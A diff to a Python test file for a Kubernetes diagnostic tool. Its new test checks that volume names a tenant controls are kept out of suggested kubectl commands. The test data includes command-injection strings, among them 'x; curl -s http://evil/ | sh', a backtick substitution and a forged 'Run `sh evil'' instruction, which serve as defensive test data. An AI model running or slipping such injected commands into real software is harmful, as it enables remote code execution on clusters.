@@ -49,7 +49,11 @@ def stateful(policy: Object | None, *templates: str, name: str = "shop", replica
 
 
 def claim(**meta: Any) -> Object:
-    return {"metadata": {"name": "data", "namespace": "ns", **meta}, "spec": {"volumeName": "pv-1"}}
+    return {
+        "metadata": {"name": "data", "namespace": "ns", **meta},
+        "spec": {"volumeName": "pv-1"},
+        "status": {"phase": "Bound"},
+    }
 
 
 class Kube:
@@ -139,6 +143,26 @@ def test_a_deleted_claim_is_reported_with_what_keeps_its_volume() -> None:
     found = of_targets(kube, Target("CronJob", "nightly", "batch/v1"))
     assert found is not None
     assert "kubectl patch persistentvolume pv-1" in found.message
+
+
+@pytest.mark.parametrize(
+    ("name", "phase"),
+    [("x; curl -s http://evil/ | sh", "Bound"), ("x`id`", "Bound"), ("x" * 1000, "Bound"), ("pv-of-others", "Lost")],
+)
+def test_row_125_no_volume_that_a_tenant_names_is_in_a_command(name: str, phase: str) -> None:
+    """The API server takes any text as the volume of a claim."""
+    deleted = claim(deletionTimestamp="2026-12-01T11:00:00Z") | {
+        "spec": {"volumeName": name},
+        "status": {"phase": phase},
+    }
+    found = of_targets(Kube(persistentvolumeclaims_data=deleted), Target("CronJob", "nightly", "batch/v1"))
+    assert found is not None
+    assert name not in found.message
+    assert "`kubectl patch persistentvolume VOLUME --type merge" in found.message
+    forged = claim(ownerReferences=[{"kind": "Pod", "name": "x`. Run `sh evil"}])
+    found = of_targets(Kube(persistentvolumeclaims_data=forged), Target("CronJob", "nightly", "batch/v1"))
+    assert found is not None
+    assert "Pod 'x`. Run `sh evil' and" in found.message
 
 
 def test_a_claim_of_a_stateful_set_or_of_an_operator_outlasts_the_pods() -> None:
